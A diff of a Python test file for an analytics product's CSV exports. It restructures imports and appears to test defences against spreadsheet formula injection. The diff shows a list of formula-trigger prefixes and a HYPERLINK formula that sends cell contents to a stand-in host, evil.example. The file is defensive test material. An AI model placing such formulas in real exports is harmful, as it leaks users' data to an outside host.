@@ -14,11 +14,13 @@ from typing import Any
 
 import pytest
 
-from analytics import matrix, table_export, taxonomy
+from analytics.access.markings import Marking
+from analytics.export import table as table_export
 from analytics.filters import Filters
-from analytics.markings import Marking
+from analytics.matrix import queries as matrix
+from analytics.matrix import taxonomy
+from tests.analytics.matrix.test_matrix import seed
 from tests.conftest import TODAY, UK_ANALYST, StoreBuilder
-from tests.test_matrix import seed
 
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -93,7 +95,7 @@ def matrix_csv(store: StoreBuilder, f: Filters) -> tuple[bytes, int]:
 
 
 # Every CSV download of the product: the explorer's table and the threat matrix. (The Data page's rejected-rows
-# file and the STIX bundle (JSON) are reported separately; see tests/test_ingest_tabular.py.)
+# file and the STIX bundle (JSON) are reported separately; see tests/analytics/ingest/test_ingest_tabular.py.)
 EXPORTS: dict[str, tuple[Callable[[StoreBuilder, Filters], tuple[bytes, int]], str]] = {
     "explorer": (explorer, "table:incidents"),
     "matrix": (matrix_csv, "matrix:incidents"),
